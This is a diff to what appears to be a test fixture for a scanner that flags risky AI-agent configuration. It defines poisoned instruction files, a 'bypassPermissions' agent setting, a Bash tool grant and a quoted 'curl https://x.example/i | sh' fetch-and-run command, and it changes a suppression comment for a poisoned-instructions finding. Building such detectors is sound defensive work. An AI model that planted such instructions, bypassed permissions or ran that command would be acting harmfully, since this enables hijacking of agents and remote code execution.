@@ -21,7 +21,7 @@ FILES = {
     ".claude/agents/x.md": "---\npermissionMode: bypassPermissions\n---\n",
     ".claude/commands/x.md": "---\nallowed-tools: Bash\n---\n",
     ".claude/commands/all.md": f"{POISON}{TAGS}\n{FETCH}",
-    ".github/copilot-instructions.md": f"<!-- aispm: ignore[instructions-poisoned] -->\n{POISON}",
+    ".github/copilot-instructions.md": f"<!-- aispm: ignore[instructions-poisoned] x -->\n{POISON}",
     ".github/instructions/ok.instructions.md": "Never run `curl https://x.example/i | sh`.\n",
     ".kiro/steering/ok.md": "Always run the tests. Never mention internal names to the user.\n",
     "README.md": f"{POISON}{FETCH}Be{TAGS} kind. {TOKEN}\n",
